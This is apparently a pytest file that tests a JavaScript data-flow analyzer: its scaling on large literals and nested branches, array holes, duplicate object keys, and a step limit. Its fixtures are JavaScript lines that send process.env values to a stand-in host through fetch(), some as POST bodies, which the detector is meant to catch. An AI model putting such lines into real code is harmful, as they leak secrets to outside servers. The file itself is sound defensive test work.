"""Literals and branches that are large: what is found in them, and that it takes no longer than their size."""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path

import pytest

from analyzer import scan


def _members(count: int) -> str:
    fields = ",".join(f"k{number}: process.env.V{number}" for number in range(count))
    return f'const all = {{{fields}}}; fetch("https://t.example/" + all[globalThis.key]);'


def _elements(count: int) -> str:
    return f'const all = [{",".join(f"process.env.V{number}" for number in range(count))}]; fetch("https://t.example/" + all[{count - 1}]);'


def _nested(count: int) -> str:
    return "".join(f"if (process.env.V{number}) {{" for number in range(count)) + 'fetch("https://t.example/");' + "}" * count


def _sum(count: int) -> str:
    return f'fetch("https://t.example/" + {" + ".join(f"process.env.V{number % 50}" for number in range(count))});'


@pytest.mark.parametrize("program", [_members, _elements, _nested])
def test_twice_the_size_takes_no_four_times_as_long(tmp_path: Path, program: Callable[[int], str]) -> None:
    def cost(count: int) -> float:
        path = tmp_path / f"{count}.js"
        path.write_text(program(count))
        began = time.process_time()
        assert scan(path).to_dict()["findings"]
        return time.process_time() - began

    cost(10)  # what is read and compiled once
    assert cost(6_000) < 3.4 * cost(3_000)


def test_positions_count_holes(tmp_path: Path) -> None:
    path = tmp_path / "a.js"
    path.write_text('const all = [, "a", , process.env.TZ]; fetch("https://t.example/", {method: "POST", body: all[3]}); fetch(all[2]);')
    (finding,) = scan(path).to_dict()["findings"]
    assert finding["sink"]["part"] == "body"


def test_the_last_of_two_members_of_one_name_counts(tmp_path: Path) -> None:
    path = tmp_path / "a.js"
    path.write_text('fetch("https://t.example/", {method: "POST", body: process.env.TZ, ...globalThis.more, body: "none"});')
    assert not scan(path).to_dict()["findings"]


def test_a_sum_of_very_many_reads_ends_in_a_named_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("analyzer.verdict.flows.MAXIMUM_WALKED", 2_000)
    path = tmp_path / "a.js"
    path.write_text(_sum(300))
    report = scan(path).to_dict()
    assert report["findings"]
    assert report["complete"] is False
    assert [gap["reason"] for gap in report["coverage"]["gaps"]] == ["the ways of values to sinks have more than 2,000 steps"]
